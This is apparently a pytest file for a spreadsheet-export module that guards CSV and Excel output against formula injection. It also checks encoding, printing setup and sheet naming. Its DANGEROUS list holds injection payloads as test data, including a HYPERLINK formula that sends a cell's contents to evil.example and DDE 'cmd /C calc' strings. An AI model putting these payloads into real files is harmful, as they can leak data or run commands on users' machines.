"""Files for people: no cell is calculated, numbers stay numbers, our reader gets back what was written."""

from __future__ import annotations

import csv
import io

import msgspec
import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pingyi.services.spreadsheets.cell_values import cell_text
from pingyi.services.spreadsheets.child import answer
from pingyi.services.spreadsheets.sheet_cells import Answer
from pingyi.services.spreadsheets.text_files import decode
from pingyi.services.spreadsheets.writing.csv_files import csv_for_people
from pingyi.services.spreadsheets.writing.shields import is_dangerous, shielded, unshielded
from pingyi.services.spreadsheets.writing.workbooks import PeopleBook, print_across

DANGEROUS = (
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\ufeff=1+1",
    " \u3000=1+1",
    "＝1+1",
    "＋86 138",
    "'=1+1",
    "-",
    "+1-800-SUM(A1)",
    "-0.5e",
)
HARMLESS = (
    "-0.5",
    "+3",
    "-1,234.50",
    "-12%",
    "0.00",
    "市公安局",
    "a=b",
    "1-2",
    "'quoted'",
    "—",
    "−1.00",
    "",
    "'-0.5",
)
TEXTS = st.text(st.sampled_from("=+-@＝－'\"`,;\t\r\n 01.%a市\ufeff"), max_size=8)


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_begins_a_formula_is_text_behind_an_apostrophe(text: str) -> None:
    assert shielded(text) == f"'{text}"
    assert unshielded(shielded(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_and_words_stay_as_they_are(text: str) -> None:
    assert shielded(text) == unshielded(text) == text


@given(text=TEXTS)
def test_every_shield_comes_off_again(text: str) -> None:
    assert unshielded(shielded(text)) == text
    assert shielded(text).startswith("'") or not is_dangerous(text)


def read_in_excel(content: bytes) -> list[list[str]]:
    """The cells that Excel shows in China: by the mark, else by the code page of Windows."""
    mark = "utf-8-sig" if content.startswith(b"\xef\xbb\xbf") else "cp936"
    return list(csv.reader(io.StringIO(content.decode(mark), newline="")))


def test_a_file_opens_in_a_chinese_excel_and_ends_lines_as_windows_does() -> None:
    content = csv_for_people([("单位", "得分"), ("市公安局", "-0.5"), ("=1+1", None), ("a\nb", 3)])
    assert read_in_excel(content) == [["单位", "得分"], ["市公安局", "-0.5"], ["'=1+1", ""], ["a\nb", "3"]]
    assert read_in_excel("单位".encode()) != [["单位"]], "without the mark it would be read wrongly"
    assert content.count(b"\r\n") == 4


@given(text=TEXTS.map(str.strip))
def test_our_reader_gets_back_the_text_of_a_file_for_people(text: str) -> None:
    decoded, _ = decode(csv_for_people([("单位", "说明"), ("A01", text)]))
    assert decoded is not None
    told = msgspec.json.decode(msgspec.json.encode(answer("text", "", decoded.encode())), type=Answer)
    sheet = next(each for each in told.sheets if each.rows[0] == ["单位", "说明"])
    cell = (*sheet.rows[1], "")[1]
    assert cell_text("text", cell, "B2") == cell_text("text", text, "B2")


def book_of(texts: tuple[str, ...]) -> openpyxl.Workbook:
    out = io.BytesIO()
    with PeopleBook(out) as book:
        sheet = book.add_sheet("表")
        bold = book.add_format({"bold": True})
        for row, text in enumerate(texts):
            sheet.write_string(row, 0, text)
            sheet.write_string(row, 1, text, bold)
            sheet.write_row(row, 2, [text])
        print_across(sheet, "2017年R&D测评", (0, 0))
    return openpyxl.load_workbook(out)


def test_text_in_a_workbook_is_marked_as_text_and_keeps_its_form() -> None:
    sheet = book_of((*DANGEROUS, "市公安局"))["表"]
    for row, text in enumerate(DANGEROUS, 1):
        cells = [sheet.cell(row, column) for column in (1, 2, 3)]
        assert {cell.data_type for cell in cells} == {"s"}, text
        assert all(cell.quotePrefix for cell in cells), text
        assert [bool(cell.font.bold) for cell in cells] == [False, True, False]
    assert not sheet.cell(len(DANGEROUS) + 1, 1).quotePrefix


def test_a_sheet_prints_across_with_repeated_heads_title_and_page_numbers() -> None:
    sheet = book_of(("市公安局",))["表"]
    assert (sheet.page_setup.orientation, int(sheet.page_setup.paperSize)) == ("landscape", 9)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert (sheet.page_setup.fitToWidth or 1, sheet.page_setup.fitToHeight) == (1, 0)
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.oddHeader.left.text == "2017年R&&D测评"
    assert "&P" in sheet.oddFooter.right.text and "&N" in sheet.oddFooter.right.text


def test_names_of_sheets_are_taken_once_and_can_be_names() -> None:
    out = io.BytesIO()
    with PeopleBook(out) as book:
        for wanted, instead in (("甲/乙", "one"), ("表", "x"), ("表", "x"), ("表", "x"), ("长" * 40, "long")):
            book.add_sheet(wanted, instead)
    assert openpyxl.load_workbook(out).sheetnames == ["one", "表", "x", "x 2", "长" * 31]
